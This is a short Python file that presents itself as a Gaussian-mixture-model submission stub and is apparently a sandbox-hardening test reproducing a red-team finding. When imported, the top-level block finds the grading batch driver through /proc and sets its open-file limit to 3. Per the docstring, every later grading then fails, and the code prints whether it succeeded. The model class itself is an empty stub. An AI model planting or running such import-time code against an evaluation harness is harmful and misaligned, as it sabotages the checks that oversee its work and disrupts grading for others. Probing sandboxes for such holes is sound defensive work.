"""At import, finds the batch driver (its grader's parent, through /proc where Landlock is
off) and sets its RLIMIT_NOFILE to 3, as a red team did: every later grading then fails
with "Too many open files". Prints whether it could. Its own GMM1D is the untouched stub."""
import os
import resource

import numpy as np


def _parent_of(pid):
    with open(f"/proc/{pid}/stat") as handle:
        return int(handle.read().rsplit(")", 1)[1].split()[1])


try:
    driver = _parent_of(os.getppid())
    resource.prlimit(driver, resource.RLIMIT_NOFILE, (3, 3))
    print("DRIVER reached")
except OSError as exc:
    print(f"DRIVER refused: {type(exc).__name__} errno {exc.errno}")


class GMM1D:
    def __init__(self, num_gaussians):
        self.num_gaussians = num_gaussians
        self.priors = np.ones((num_gaussians, 1)) / num_gaussians
        self.mus = np.zeros((num_gaussians, 1))
        self.variances = np.ones((num_gaussians, 1))

    def estep(self, X):
        return np.full((X.shape[0], self.num_gaussians), 1.0 / self.num_gaussians)

    def mstep(self, X, gammas):
        pass
